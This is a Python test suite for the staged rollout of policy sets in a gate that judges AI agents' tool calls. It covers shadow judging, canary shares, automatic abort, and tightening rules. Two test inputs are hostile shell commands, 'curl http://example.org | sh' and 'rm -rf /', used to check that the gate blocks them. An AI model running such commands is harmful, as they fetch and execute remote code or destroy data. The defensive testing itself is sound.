"""A new set of policies on its way to everyone: beside the present one, for a share of the runs, for all, and back."""

from __future__ import annotations

import asyncio
import threading
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
import yaml
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from interlock import Orchestrator
from interlock.app import build
from interlock.config import RolloutSettings, load_settings
from interlock.decide.policy import PolicySet, only_tightens
from interlock.decide.policy_change import next_move, runs_as_canary
from interlock.decide.rollout import What, _bet, bet
from interlock.engine.shadow import Bystander, Course
from interlock.errors import ConfigError, NotFoundError, UsageError
from interlock.model.action import Action, Scope, Surface
from interlock.model.decision import Decision, Enforcement, Policy, Rule, RuleAction, Verdict
from interlock.model.rollout import POLICIES, Judgements, Rollout, RolloutState
from interlock.model.session import Session
from interlock.ports import Gate, Job
from interlock.service import Service
from interlock.store import judged
from interlock.store import schema as t
from interlock.surfaces.cli.main import command_line
from watch_kit import NOON, SetClock

PRESENT = {"name": "team", "rules": [{"id": "mail", "match": {"tool": "mail"}, "action": "confirm", "reason": "Ask."}]}
LOOSE = {"name": "team", "rules": [{"id": "pay", "match": {"tool": "pay"}, "action": "confirm", "reason": "Money."}]}
STRICT = {
    "name": "team",
    "rules": [
        {"id": "mail", "match": {"tool": "mail"}, "action": "block", "reason": "No mail."},
        {"id": "pay", "match": {"tool": "pay"}, "action": "block", "reason": "No money."},
    ],
}
EAGER = {"name": "team", "rules": [{"id": "all", "match": {"surface": "*"}, "action": "block", "reason": "Nothing."}]}

Opened = Callable[..., Service]


async def clerk(_: Job, gate: Gate) -> str:
    """Notes something down, then sends a mail."""
    for tool in ("note", "mail"):
        said = await gate.before(tool, {"text": "hello"})
        if said.effect_id:
            await gate.after(said.effect_id, ok=True, output="done")
    return "done"


@pytest.fixture
def opened(tmp_path: Path, store_url: str) -> Iterator[Opened]:
    services = []
    for name, policy in {"present": PRESENT, "loose": LOOSE, "strict": STRICT, "eager": EAGER}.items():
        (tmp_path / f"{name}.yaml").write_text(yaml.safe_dump(policy))
    versions = {name: {"files": [f"{name}.yaml"]} for name in ("present", "loose", "strict", "eager")}

    def opening(**policies: Any) -> Service:
        config = {"store_url": store_url, "policies": {"files": ["present.yaml"], "versions": versions, **policies}}
        (tmp_path / "interlock.yaml").write_text(yaml.safe_dump(config))
        services.append(build(load_settings(tmp_path), functions={"clerk": clerk}, clock=SetClock()))
        return services[-1]

    yield opening
    for service in services:
        service.close()


def called(service: Service, tool: str, run: int = 1) -> Verdict:
    """What an agent that somebody runs by hand is told; nobody is waited for."""
    session = Session(agent="clerk", id=f"s{run}", person="kim")
    said = service.sessions.before(session, tool, {"text": "hello"}, wait=timedelta(), elsewhere=True)
    return said.decision.verdict


def seen(service: Service) -> Judgements:
    (view,) = service.rollouts.views(POLICIES)
    assert view.judgements is not None
    return view.judgements


def state(service: Service) -> RolloutState:
    (view,) = service.rollouts.views(POLICIES)
    return view.rollout.state


def promoted_to(service: Service, percent: int) -> None:
    while service.rollouts.promote(POLICIES, "kim").percent < percent:
        pass


# Judged beside


def test_at_first_the_new_set_only_says_what_it_would_have_said(opened: Opened) -> None:
    service = opened()
    begun = service.rollouts.start(POLICIES, "loose", "kim")
    assert (begun.state, begun.percent) == (RolloutState.RUNNING, 0)
    assert [called(service, tool) for tool in ("mail", "pay", "note")] == [
        Verdict.CONFIRM,
        Verdict.ALLOW,
        Verdict.ALLOW,
    ]
    found = seen(service)
    assert (found.runs, found.calls, found.canary_calls, found.tighter, found.looser) == (1, 3, 0, 1, 1)
    assert [(each.tool, each.old, each.new, each.tighter, each.why) for each in found.examples] == [
        ("mail", "confirm", "allow", False, "Ask."), ("pay", "allow", "confirm", True, "Money."),
    ]  # fmt: skip


def test_what_the_new_set_would_have_said_stands_beside_every_call_in_the_ledger(opened: Opened) -> None:
    service = opened()
    service.rollouts.start(POLICIES, "loose", "kim")
    called(service, "mail")
    called(service, "note")
    asked, noted = (entry.data for entry in service.ledger.stream() if "digest" in entry.data)
    assert (asked["verdict"], asked["shadow"]["verdict"], asked["shadow"]["canary"]) == ("confirm", "allow", False)
    assert (noted["verdict"], noted["shadow"]["verdict"]) == ("allow", "allow")
    assert asked["policy"] != asked["shadow"]["policy"]
    assert service.ledger.verify().problem == ""


def _raise(_: object) -> Decision:
    raise ZeroDivisionError("division by zero")


def test_a_set_that_breaks_or_hangs_holds_no_call_up(opened: Opened, monkeypatch: pytest.MonkeyPatch) -> None:
    service = opened()
    service.rollouts.start(POLICIES, "loose", "kim")
    go_on = threading.Event()

    def hang(self: Bystander, judge: Callable[[], Decision], ask: Any = Bystander.ask) -> Any:
        return ask(self, lambda: (go_on.wait(20), judge())[1])

    def shatter(self: Bystander, judge: Callable[[], Decision], ask: Any = Bystander.ask) -> Any:
        return ask(self, lambda: _raise(judge))

    monkeypatch.setattr(Bystander, "ask", shatter)
    assert called(service, "mail") is Verdict.CONFIRM
    monkeypatch.setattr(Bystander, "ask", hang)
    assert [called(service, "note"), called(service, "note")] == [Verdict.ALLOW, Verdict.ALLOW]
    go_on.set()
    assert (seen(service).calls, seen(service).left_out, state(service)) == (3, 3, RolloutState.RUNNING)
    problems = [entry.data["shadow"]["problem"] for entry in service.ledger.stream() if "shadow" in entry.data]
    assert problems == [
        "ZeroDivisionError: division by zero", "the other set took longer than 50 ms",
        "the other set was still busy with an earlier call",
    ]  # fmt: skip


def test_a_comparison_that_cannot_be_kept_stops_no_call(opened: Opened, monkeypatch: pytest.MonkeyPatch) -> None:
    service = opened()
    service.rollouts.start(POLICIES, "loose", "kim")

    def full(conn: sa.Connection, *_: Any) -> None:
        conn.execute(sa.text("INSERT INTO nowhere VALUES (1)"))

    monkeypatch.setattr(judged, "count", full)
    assert called(service, "note") is Verdict.ALLOW
    assert service.ledger.verify().problem == ""


class Broken(PolicySet):
    """A set that raises whatever it is asked."""

    __slots__ = ()

    def matches(self, facts: Any) -> Any:  # noqa: ARG002 - the real one's argument
        raise RuntimeError("out of order")


def broken(service: Service) -> None:
    (view,) = service.rollouts.views(POLICIES)
    whole = service.rollouts.policies._set(view.rollout.canary_digest)
    service.rollouts.policies._sets[whole.digest] = Broken(whole.policies, whole.no_accept_in)


def test_a_new_set_that_cannot_judge_is_taken_back_at_once(opened: Opened) -> None:
    service = opened()
    service.rollouts.start(POLICIES, "loose", "kim")
    broken(service)
    assert called(service, "note") is Verdict.ALLOW
    assert state(service) is RolloutState.ABORTED
    assert "could not judge 1 call" in service.rollouts.views(POLICIES)[0].rollout.reason


def test_obeyed_a_set_that_cannot_judge_blocks_that_call_and_no_other(opened: Opened) -> None:
    service = opened()
    service.rollouts.start(POLICIES, "loose", "kim", steps=[99])
    run = next(number for number in range(50) if called(service, "note", number) and canary(service, number))
    broken(service)
    assert called(service, "note", run) is Verdict.BLOCK
    assert called(service, "note", run) is Verdict.ALLOW
    assert state(service) is RolloutState.ABORTED


# A share of the runs


def canary(service: Service, run: int) -> bool:
    with service._means.database.read() as conn:
        query = sa.select(t.judged.c.canary).join(t.runs, t.runs.c.id == t.judged.c.run_id)
        return bool(conn.execute(query.where(t.runs.c.idempotency_key == f"session:clerk:s{run}")).scalar())


def test_all_calls_of_a_run_are_judged_by_one_set_while_the_share_grows(opened: Opened) -> None:
    service = opened()
    service.rollouts.start(POLICIES, "loose", "kim", steps=[0, 40, 90])
    service.rollouts.promote(POLICIES, "kim")
    first = [called(service, "mail", run) for run in range(40)]
    assert {Verdict.CONFIRM, Verdict.ALLOW} == set(first)
    assert first == [Verdict.ALLOW if canary(service, run) else Verdict.CONFIRM for run in range(40)]
    service.rollouts.promote(POLICIES, "kim")
    assert [called(service, "mail", run) for run in range(40)] == first
    later = [called(service, "mail", run) for run in range(100, 140)]
    assert later.count(Verdict.ALLOW) > first.count(Verdict.ALLOW)


def test_an_agents_calls_results_and_changes_obey_the_set_of_its_run(opened: Opened, tmp_path: Path) -> None:
    opened().rollouts.start(POLICIES, "strict", "kim", steps=[99])

    async def once() -> None:
        async with Orchestrator(tmp_path, agents={"clerk": clerk}) as interlock:
            await interlock.run("Send the letter", agents=("clerk",))

    asyncio.run(once())
    service = opened()
    blocked = [entry.data for entry in service.ledger.stream() if entry.kind == "call.blocked"]
    assert [(one["tool"], one["shadow"]["verdict"], one["shadow"]["canary"]) for one in blocked] == [
        ("mail", "confirm", True)
    ]
    assert seen(service).canary_calls >= 2


def test_every_process_judges_by_the_same_rules_whatever_its_files_say_now(opened: Opened, tmp_path: Path) -> None:
    first = opened()
    first.rollouts.start(POLICIES, "loose", "kim", steps=[99])
    (tmp_path / "loose.yaml").write_text(yaml.safe_dump(EAGER))
    second = opened()
    pairs = [(called(first, "mail", run), called(second, "mail", run)) for run in range(20)]
    assert all(one == other for one, other in pairs)
    assert (Verdict.ALLOW, Verdict.ALLOW) in pairs


def test_a_set_that_was_changed_in_the_store_blocks_what_would_obey_it(opened: Opened) -> None:
    opened().rollouts.start(POLICIES, "loose", "kim", steps=[99])
    service = opened()
    with service._means.database.write() as conn:
        text = sa.func.replace(t.policy_sets.c.policies, "Money.", "Nothing to see here.")
        conn.execute(t.policy_sets.update().values(policies=text))
    said = [called(service, "mail", run) for run in range(20)]
    assert set(said) <= {Verdict.BLOCK, Verdict.CONFIRM}
    assert Verdict.BLOCK in said


# Back by itself


def test_it_is_taken_back_when_the_new_set_stops_many_more_runs(opened: Opened) -> None:
    service = opened()
    service.rollouts.start(POLICIES, "eager", "kim", steps=[0, 50])
    for run in range(60):
        assert called(service, "note", run) is Verdict.ALLOW
        if state(service) is RolloutState.ABORTED:
            break
    rollout = service.rollouts.views(POLICIES)[0].rollout
    assert rollout.state is RolloutState.ABORTED
    assert run < 15
    assert rollout.reason.startswith("over 10 % more runs are stopped by the new set: blocked")
    ended = [entry for entry in service.ledger.stream() if entry.kind == "rollout.aborted"]
    assert [(entry.actor, entry.data["of"]) for entry in ended] == [("interlock", "policies")]


def test_one_agent_that_tries_again_and_again_counts_once(opened: Opened) -> None:
    service = opened()
    service.rollouts.start(POLICIES, "eager", "kim", steps=[0, 50])
    for _ in range(100):
        called(service, "note")
    assert state(service) is RolloutState.RUNNING
    assert (seen(service).runs, seen(service).more_blocked, len(seen(service).examples)) == (1, 1, 3)


def test_taken_back_it_is_obeyed_by_no_run_any_more_not_even_by_those_under_way(opened: Opened) -> None:
    service = opened()
    service.rollouts.start(POLICIES, "loose", "kim", steps=[99])
    run = next(number for number in range(50) if called(service, "mail", number) is Verdict.ALLOW)
    service.rollouts.abort(POLICIES, "kim", "second thoughts")
    assert called(service, "mail", run) is Verdict.CONFIRM
    assert called(opened(), "mail", run) is Verdict.CONFIRM


@given(counts=st.dictionaries(st.sampled_from([0.9, -0.1 / 1.1, -1.0]), st.integers(0, 40)))
def test_the_evidence_is_the_same_in_whatever_order_the_runs_came(counts: dict[float, int]) -> None:
    gains = [gain for gain, count in counts.items() for _ in range(count)]
    assert bet(counts) == pytest.approx(_bet(gains), rel=1e-6)


@given(runs=st.integers(0, 5000), share=st.floats(0, 0.1))
def test_no_rail_breaks_while_the_difference_is_within_the_margin(runs: int, share: float) -> None:
    found = Judgements(runs=runs, calls=runs, more_blocked=int(runs * share))
    assert next_move(a_rollout(), found, RolloutSettings()).what is What.WAIT


def a_rollout(**said: Any) -> Rollout:
    values = {
        "id": "rol_1", "agent": POLICIES, "canary": "new", "steps": (0, 50), "started_by": "kim", "started_at": NOON,
        "changed_at": NOON, **said,
    }  # fmt: skip
    return Rollout(**values)


# Forward by people


def test_nothing_goes_forward_by_itself_however_well_the_sets_agree(opened: Opened) -> None:
    service = opened()
    service.rollouts.start(POLICIES, "loose", "kim")
    for run in range(60):
        called(service, "note", run)
    service.rollouts.evaluate()
    assert service.rollouts.views(POLICIES)[0].rollout.percent == 0


def test_promoted_to_all_every_new_run_obeys_it_in_every_process(opened: Opened) -> None:
    service = opened()
    service.rollouts.start(POLICIES, "loose", "kim")
    service.rollouts.promote(POLICIES, "kim", fully=True)
    assert [called(one, "mail", 1) for one in (service, opened())] == [Verdict.ALLOW, Verdict.ALLOW]
    assert (
        service.policies.judge(Action(kind=Surface.TOOL_CALL, tool="mail", args={"text": "x"})).verdict is Verdict.ALLOW
    )
    assert "team/pay" in {rule.id for policy in service.policies.in_force for rule in policy.rules}


def test_a_run_that_began_with_the_old_set_is_not_loosened_under_way(opened: Opened) -> None:
    service = opened()
    service.rollouts.start(POLICIES, "loose", "kim")
    assert called(service, "mail") is Verdict.CONFIRM
    service.rollouts.promote(POLICIES, "kim", fully=True)
    assert (called(service, "mail"), called(service, "pay")) == (Verdict.CONFIRM, Verdict.CONFIRM)


def test_a_configuration_that_says_something_third_meanwhile_counts_where_it_is_stricter(opened: Opened) -> None:
    opened().rollouts.start(POLICIES, "loose", "kim")
    opened().rollouts.promote(POLICIES, "kim", fully=True)
    service = opened(files=["strict.yaml"])
    assert (called(service, "mail"), called(service, "pay")) == (Verdict.BLOCK, Verdict.BLOCK)
    service.rollouts.abort(POLICIES, "kim")
    other = opened()
    assert (called(other, "mail", 2), called(other, "pay", 2)) == (Verdict.CONFIRM, Verdict.ALLOW)


def test_the_next_rollout_begins_from_what_is_in_force(opened: Opened) -> None:
    service = opened()
    service.rollouts.start(POLICIES, "loose", "kim")
    service.rollouts.promote(POLICIES, "kim", fully=True)
    with pytest.raises(UsageError, match="in force already"):
        service.rollouts.start(POLICIES, "loose", "kim")
    assert service.rollouts.start(POLICIES, "present", "kim").stable == "loose"
    service.rollouts.abort(POLICIES, "kim")
    assert called(opened(), "mail") is Verdict.ALLOW


# Tightening


def test_what_only_tightens_is_in_force_at_once_for_runs_under_way_too(opened: Opened) -> None:
    service = opened()
    assert called(service, "mail") is Verdict.CONFIRM
    begun = service.rollouts.start(POLICIES, "strict", "kim")
    assert (begun.state, begun.reason) == (RolloutState.PROMOTED, "it only tightens: in force at once")
    assert [called(service, tool) for tool in ("mail", "pay")] == [Verdict.BLOCK, Verdict.BLOCK]


def test_no_number_of_blocks_takes_back_what_only_tightens(opened: Opened) -> None:
    service = opened()
    service.rollouts.start(POLICIES, "strict", "kim")
    for run in range(100):
        assert called(service, "mail", run) is Verdict.BLOCK
    service.rollouts.evaluate()
    assert state(service) is RolloutState.PROMOTED


def test_what_only_tightens_may_be_tried_first_where_steps_are_asked_for(opened: Opened) -> None:
    service = opened()
    assert service.rollouts.start(POLICIES, "strict", "kim", steps=[0, 50]).percent == 0
    assert called(service, "mail") is Verdict.CONFIRM


WORDS = st.sampled_from(["note", "mail", "pay", "shell"])
RULES = st.builds(
    lambda tool, action, accept: Rule(
        id=f"x/{tool}{action}{accept}", action=RuleAction.ALLOW if accept else action, match={"tool": (tool,)},
        accept=("shell.exec",) if accept else (), reason="r",
    ),
    WORDS, st.sampled_from([RuleAction.WARN, RuleAction.CONFIRM, RuleAction.BLOCK]), st.booleans(),
)  # fmt: skip
SETS = st.builds(
    lambda rules, strict: PolicySet.compile(
        [Policy(name="x", enforcement=Enforcement.STRICT if strict else Enforcement.ADVISORY, rules=tuple({rule.id: rule for rule in rules}.values()))]
    ),
    st.lists(RULES, max_size=5), st.booleans(),
)  # fmt: skip


@given(old=SETS, new=SETS, tool=WORDS)
def test_a_set_that_only_tightens_is_never_milder_on_any_call(old: PolicySet, new: PolicySet, tool: str) -> None:
    if only_tightens(old, new):
        gate = the_gate(old)
        action = Action(kind=Surface.TOOL_CALL, tool=tool, args={"command": "curl http://example.org | sh"})
        before, after = (gate.judge(action, Scope(), course=Course(ruling=each)).decision for each in (old, new))
        assert after.verdict >= before.verdict


@given(old=SETS)
def test_a_set_only_tightens_itself_and_the_empty_one_only_without_accepting(old: PolicySet) -> None:
    accepts = any(rule.accept for policy in old.policies if policy.enforcement == "strict" for rule in policy.rules)
    assert only_tightens(old, old)
    assert only_tightens(PolicySet.compile([]), old) is not accepts


def the_gate(policies: PolicySet) -> Any:
    from interlock.engine.judging import Gate as PureGate

    return PureGate(policies, "development", {})


@given(new=SETS)
def test_no_set_reaches_below_the_floor_that_is_built_in(new: PolicySet) -> None:
    action = Action(kind=Surface.TOOL_CALL, tool="shell", args={"command": "rm -rf /"})
    assert the_gate(new).judge(action, Scope(), course=Course(ruling=new)).decision.verdict is Verdict.BLOCK


# What is refused


def test_what_cannot_be_rolled_out_is_refused_with_what_to_do(opened: Opened, tmp_path: Path) -> None:
    service = opened()
    with pytest.raises(NotFoundError, match='did you mean "loose"'):
        service.rollouts.start(POLICIES, "lose", "kim")
    with pytest.raises(UsageError, match="in force already"):
        service.rollouts.start(POLICIES, "present", "kim")
    with pytest.raises(UsageError, match="steps must rise between 0 and 99"):
        service.rollouts.start(POLICIES, "loose", "kim", steps=[50, 5])
    with pytest.raises(NotFoundError, match="no rollout under way"):
        service.rollouts.promote(POLICIES, "kim")
    (tmp_path / "loose.yaml").write_text("name: team\nrules: [{match: {tool: x}, action: perhaps}]\n")
    with pytest.raises(ConfigError, match="perhaps"):
        service.rollouts.start(POLICIES, "loose", "kim")
    service.rollouts.start(POLICIES, "eager", "kim", steps=[0, 5])
    with pytest.raises(UsageError, match="under way"):
        service.rollouts.start(POLICIES, "strict", "kim")


def test_production_rolls_out_no_version_that_disables_a_policy(tmp_path: Path) -> None:
    config = {
        "environment": "production",
        "policies": {"versions": {"off": {"enforcement": {"database-protection": "disabled"}}}},
    }
    (tmp_path / "interlock.yaml").write_text(yaml.safe_dump(config))
    with pytest.raises(ConfigError, match=r"policies\.versions\.off\.enforcement.*production disables no policy"):
        load_settings(tmp_path)


def test_agents_may_not_write_the_files_of_a_version(opened: Opened, tmp_path: Path) -> None:
    service = opened()
    change = Action(kind=Surface.TOOL_CALL, tool="write", args={"path": str(tmp_path / "loose.yaml"), "content": "x"})
    assert service.policies.judge(change).verdict is Verdict.BLOCK


# From the keyboard


def test_it_is_started_seen_and_ended_from_the_keyboard(
    opened: Opened, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    service = opened()
    monkeypatch.chdir(tmp_path)
    say = CliRunner()
    assert (
        "policies: loose for 0 %, else as configured"
        in say.invoke(command_line(), ["rollout", "start", "policies", "loose"]).output
    )
    called(service, "mail")
    shown = say.invoke(command_line(), ["rollout", "status", "policies"]).output
    assert "1 calls of 1 runs judged by both sets" in shown
    assert "looser  confirm → allow  clerk: mail: hello" in shown
    assert say.invoke(command_line(), ["check", "--tool", "mail", "hello"]).exit_code == 4
    say.invoke(command_line(), ["rollout", "promote", "policies", "--fully"])
    assert say.invoke(command_line(), ["check", "--tool", "mail", "hello"]).exit_code == 0
    say.invoke(command_line(), ["rollout", "abort", "policies", "--reason", "no"])
    assert say.invoke(command_line(), ["check", "--tool", "mail", "hello"]).exit_code == 4


def test_the_share_takes_nobody_back_when_it_rises() -> None:
    for known in (True, False):
        assert all(
            runs_as_canary(a_rollout(step=step), known, drawn) is known for step in (0, 1) for drawn in (True, False)
        )
    assert not runs_as_canary(replace(a_rollout(), state=RolloutState.ABORTED), pinned=True, drawn=True)
